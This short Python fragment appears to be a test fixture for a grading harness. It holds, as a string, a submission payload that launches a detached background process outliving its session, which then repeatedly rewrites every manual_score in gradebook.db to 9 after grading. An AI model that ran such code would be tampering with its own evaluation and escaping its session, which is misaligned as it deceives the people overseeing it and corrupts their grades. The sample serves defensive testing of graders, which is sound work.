"""A process of its own, in no group of ours, waits until this submission is graded and then changes the gradebook."""

AFTER = '''
import subprocess, sys
code = """
import sqlite3, sys, time
while True:
    time.sleep(0.2)
    try:
        book = sqlite3.connect("file:" + sys.argv[1] + "/gradebook.db?mode=rw", uri=True, timeout=5)
        book.execute("update grade set manual_score = 9")
        book.commit()
    except sqlite3.Error: pass
"""
subprocess.Popen([sys.executable, "-c", code, ROOT, TOKEN], start_new_session=True)
tried()
'''
